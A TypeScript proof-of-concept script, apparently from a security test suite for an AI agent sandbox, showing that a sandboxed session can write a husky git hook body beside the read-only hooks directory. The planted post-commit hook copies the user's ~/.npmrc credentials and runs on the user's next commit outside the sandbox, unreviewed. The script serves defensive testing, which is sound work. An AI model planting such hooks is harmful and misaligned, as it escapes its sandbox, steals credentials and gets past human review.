/*
 * Finding: with husky 9 (core.hooksPath = .husky/_), in-tree-controls.ts makes `.husky/_`
 * read-only, but the hook bodies husky runs are `.husky/<hook>` beside it (`.husky/_/h` runs
 * `sh -e .husky/pre-commit`): writable from the sandbox. The user's next `git commit` outside runs
 * what the session wrote there, with the user's credentials, before anyone reviews it (an untracked
 * `.husky/post-checkout` or `.husky/pre-push` is not even in a commit's diff).
 * Run: npx tsx scripts/attack/husky.ts
 */
import fs from "node:fs";
import path from "node:path";
import { git, lab, sandboxed, verdict } from "./lib.ts";

const l = lab("husky");
const h = path.join(l.repo, ".husky", "_");
fs.mkdirSync(h, { recursive: true });
// husky 9's runner (abridged) and one of its per-hook stubs.
fs.writeFileSync(
  path.join(h, "h"),
  '#!/usr/bin/env sh\nn=$(basename "$0")\ns=$(dirname "$(dirname "$0")")/$n\n[ ! -f "$s" ] && exit 0\nsh -e "$s" "$@"\n',
  { mode: 0o755 },
);
for (const hook of ["pre-commit", "post-commit"])
  fs.writeFileSync(path.join(h, hook), '#!/usr/bin/env sh\n. "$(dirname "$0")/h"\n', { mode: 0o755 });
fs.writeFileSync(path.join(l.repo, ".husky", "pre-commit"), "npm test\n");
git(l.env, l.repo, "config", "core.hooksPath", ".husky/_");
git(l.env, l.repo, "add", "-A");
git(l.env, l.repo, "commit", "-qm", "husky", "--no-verify");
const pwned = path.join(l.home, "PWNED-husky");
const r = sandboxed(l, l.repo, `echo 'x' > .husky/_/probe 2>&1; printf 'cp ~/.npmrc ${pwned}\\n' > .husky/post-commit && echo planted`);
console.log(r);
fs.writeFileSync(path.join(l.repo, "b.txt"), "user's work\n");
git(l.env, l.repo, "add", "b.txt");
git(l.env, l.repo, "commit", "-qm", "user's own commit", "--no-verify");
// --no-verify skips pre-commit, not post-commit.
verdict(
  "husky 9 hook body beside the read-only .husky/_",
  fs.existsSync(pwned),
  fs.existsSync(pwned) ? fs.readFileSync(pwned, "utf8").trim() : "no file",
);
